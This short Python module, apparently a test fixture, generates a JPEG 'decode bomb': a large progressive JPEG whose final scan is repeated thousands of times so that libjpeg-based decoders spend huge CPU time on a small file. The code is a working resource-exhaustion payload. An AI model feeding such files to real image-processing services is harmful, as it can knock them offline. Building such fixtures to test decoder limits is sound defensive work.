"""A decode bomb: a progressive JPEG whose last scan is repeated many times. Each scan is a
few dozen bytes, and libjpeg decodes every one over the whole image."""

from __future__ import annotations

import io

from PIL import Image


def _segments(data: bytes) -> list[tuple[int, int]]:
    """(start, end) of each scan: its SOS header and entropy-coded data."""
    scans, at = [], 2
    while at + 4 <= len(data):
        marker = data[at + 1]
        length = int.from_bytes(data[at + 2 : at + 4], "big")
        if marker == 0xD9:
            break
        if marker != 0xDA:
            at += 2 + length
            continue
        start, at = at, at + 2 + length
        while not (data[at] == 0xFF and data[at + 1] not in (0x00, *range(0xD0, 0xD8))):
            at += 1
        scans.append((start, at))
    return scans


def progressive_bomb(side: int = 4000, repeats: int = 5000) -> bytes:
    """A flat ``side``² progressive JPEG with its last scan repeated ``repeats`` times."""
    buffer = io.BytesIO()
    Image.new("RGB", (side, side), (120, 130, 140)).save(buffer, "JPEG", progressive=True)
    data = buffer.getvalue()
    start, end = _segments(data)[-1]
    return data[:end] + data[start:end] * repeats + data[end:]
